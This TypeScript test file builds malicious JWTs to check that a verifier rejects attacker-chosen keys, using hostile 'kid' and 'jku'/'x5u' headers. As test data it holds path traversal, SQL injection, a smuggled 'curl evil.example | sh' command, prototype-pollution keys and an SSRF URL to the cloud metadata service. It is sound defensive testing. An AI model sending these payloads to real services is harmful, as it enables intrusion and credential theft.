/** Tokens that try to choose the verification key: by its id, or by including a key. */
import { createHash, type KeyObject, sign } from 'node:crypto';
import { createTestKey, encodePart, signParts, type TestKey } from '../../lambda/shared/tokens/mint-token';
import type { Attack } from '../attack';
import type { Mint } from '../mint';
import { type BadToken, badTokens } from './bad-token';

const FOREIGN = 'foreign';
let made: TestKey | undefined;

/**
 * Returns a key of the attacker, like that of another stage. It is created only when a row runs, not when
 * rows are listed.
 */
function foreignKey(): TestKey {
  made ??= createTestKey(FOREIGN, 3072);
  return made;
}

function signedBy(
  key: KeyObject,
  { header, claims }: Mint,
  changes: Readonly<Record<string, unknown>> = {},
): string {
  const rs256 = (input: Buffer) => sign('sha256', input, key);
  return signParts(encodePart({ ...header, ...changes }), encodePart(claims), rs256);
}

type Changes = () => Readonly<Record<string, unknown>>;

const foreignToken = (changes: Changes = () => ({})) => {
  return ({ mint }: { readonly mint: Mint }) => signedBy(foreignKey().privateKey, mint, changes());
};

const foreignJwk = () => foreignKey().publicKey.export({ format: 'jwk' });
const thumbprint = () => createHash('sha256').update(JSON.stringify(foreignJwk())).digest('base64url');

/** Key ids that a careless lookup would resolve. */
const kids: Readonly<Record<string, unknown>> = {
  'of another stage': FOREIGN,
  'that is a path out of a folder of keys': '../../../../dev/null',
  'that is an absolute path': '/dev/null',
  'that is a URL': 'https://evil.example/key',
  'with a piece of SQL': "x' UNION SELECT 'secret' --",
  'with a command': 'key; curl evil.example | sh',
  'that is an ARN of the attacker':
    'arn:aws:kms:eu-west-1:999999999999:key/00000000-0000-0000-0000-000000000000',
  'that is an alias': 'alias/signing',
  'that objects inherit': '__proto__',
  'that is a method of objects': 'constructor',
  'that is empty': '',
  'of 5,000 characters': 'k'.repeat(5_000),
  'that is a number': 0,
  'that is null': null,
  'that is true': true,
  'that is an object': { kid: 'x' },
};

const chosenKeys: readonly BadToken[] = [
  ['a foreign key under our kid', 'bad-signature', foreignToken()],
  ...Object.entries(kids).map(
    ([attack, kid]): BadToken => [`a kid ${attack}`, 'unknown-key', foreignToken(() => ({ kid }))],
  ),
  ['no kid', 'unknown-key', ({ mint }) => mint.token({ header: { kid: undefined } })],
  ['our kid in a list', 'unknown-key', ({ mint }) => mint.token({ header: { kid: [mint.kid] } })],
  [
    'our kid followed by a space',
    'unknown-key',
    ({ mint }) => mint.token({ header: { kid: `${mint.kid} ` } }),
  ],
  [
    'our kid followed by a NUL and more',
    'unknown-key',
    ({ mint }) => mint.token({ header: { kid: `${mint.kid}\0x` } }),
  ],
  [
    'our kid in capitals',
    'unknown-key',
    ({ mint }) => mint.token({ header: { kid: mint.kid.toUpperCase() } }),
  ],
];

const url = 'https://evil.example/jwks.json';

/** Headers of RFC 7515 section 4.1, and others that libraries have accepted. */
const ownKeys: Readonly<Record<string, Changes>> = {
  'jwk with its own key': () => ({ jwk: foreignJwk() }),
  'jku with its own key set': () => ({ jku: url }),
  'jku that begins like our issuer': () => ({
    jku: 'https://latchkey.execute-api.eu-west-1.amazonaws.com@evil.example/jwks.json',
  }),
  'jku of a service on this machine': () => ({ jku: 'http://169.254.169.254/latest/meta-data/' }),
  'jku of a file': () => ({ jku: 'file:///dev/null' }),
  'x5u with its own certificate': () => ({ x5u: url }),
  'x5c with its own certificate': () => ({ x5c: ['MIIB'] }),
  'x5t with its own thumbprint': () => ({ x5t: thumbprint() }),
  'x5t#S256 with its own thumbprint': () => ({ 'x5t#S256': thumbprint() }),
};

const broughtKeys: readonly BadToken[] = [
  ...Object.entries(ownKeys).map(
    ([attack, changes]): BadToken => [
      `a foreign key and ${attack}`,
      'unexpected-header',
      foreignToken(changes),
    ],
  ),
  ...Object.entries(ownKeys).map(
    ([attack, changes]): BadToken => [
      `a valid signature and ${attack}`,
      'unexpected-header',
      ({ mint }) => mint.token({ header: changes() }),
    ],
  ),
];

const extensions: readonly BadToken[] = [
  [
    'an unknown critical extension',
    'unexpected-header',
    ({ mint }) => mint.token({ header: { crit: ['http://evil.example/x'], 'http://evil.example/x': true } }),
  ],
  ['a critical claim', 'unexpected-header', ({ mint }) => mint.token({ header: { crit: ['exp'], exp: 1 } })],
  ['an empty crit', 'malformed', ({ mint }) => mint.token({ header: { crit: [] } })],
  ['a crit that is not a list', 'malformed', ({ mint }) => mint.token({ header: { crit: 'b64' } })],
  [
    'b64 false, and critical',
    'unexpected-header',
    ({ mint }) => mint.token({ header: { b64: false, crit: ['b64'] } }),
  ],
  ['b64 false without crit', 'unexpected-header', ({ mint }) => mint.token({ header: { b64: false } })],
  ['a compressed payload', 'unexpected-header', ({ mint }) => mint.token({ header: { zip: 'DEF' } })],
  [
    'the header of an encrypted token',
    'unexpected-header',
    ({ mint }) => mint.token({ header: { enc: 'A256GCM' } }),
  ],
  ['an unknown parameter', 'unexpected-header', ({ mint }) => mint.token({ header: { admin: true } })],
  [
    'a parameter that is named __proto__',
    'unexpected-header',
    ({ mint }) =>
      mint.signParts(
        encodePart(JSON.stringify(mint.header).replace('{', '{"__proto__":{"alg":"none"},')),
        encodePart(mint.claims),
      ),
  ],
];

export const tokenKeyAttacks: readonly Attack[] = [
  ...badTokens(['ASVS V9.1.3', 'RFC 8725 section 3.10'], chosenKeys),
  ...badTokens(['ASVS V9.1.3', 'RFC 8725 section 3.10'], broughtKeys),
  ...badTokens(['ASVS V9.1.1', 'RFC 7515 section 4.1.11'], extensions),
];
